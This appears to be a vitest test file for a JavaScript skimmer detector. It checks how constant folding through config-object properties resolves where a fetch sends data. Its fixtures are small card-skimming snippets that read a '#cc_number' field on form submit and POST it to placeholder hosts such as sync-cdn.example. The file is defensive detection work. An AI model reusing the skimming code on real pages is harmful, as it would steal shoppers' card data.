import { describe, expect, it } from 'vitest'
import { analyzeScript } from '../../detector/index.ts'

// Constant folding through an object literal's properties: a sink's destination read from a
// config object is known, unless something could have changed or supplied that property.
const send = `var f = document.querySelector('#cc_number');
document.addEventListener('submit', function () {
  fetch(CFG, { method: 'POST', body: JSON.stringify({ n: f.value }) })
})`

function outbound(source: string): string[] {
  return analyzeScript(source, { pageUrl: 'https://shop.example/checkout' })
    .findings.filter((f) => f.message.startsWith('outbound'))
    .map((f) => f.message)
}

describe('object literal properties in the folder', () => {
  it('reads a property of a config object nothing writes to', () => {
    const src = `var conf = { ep: ['https://', 'sync-', 'cdn', '.example', '/c'].join(''), v: 2 }
${send.replace('CFG', 'conf.ep')}`
    expect(outbound(src).join('\n')).toContain('https://sync-cdn.example/c')
  })

  it('does not read a property the script writes elsewhere', () => {
    const src = `var conf = { ep: 'https://a.example/c' }
conf.ep = location.hash.slice(1)
${send.replace('CFG', 'conf.ep')}`
    expect(outbound(src).join('\n')).not.toContain('https://a.example/c')
  })

  it('does not read a property a spread could supply', () => {
    const src = `var conf = { ep: 'https://a.example/c', ...window.override }
${send.replace('CFG', 'conf.ep')}`
    expect(outbound(src).join('\n')).not.toContain('https://a.example/c')
  })
})
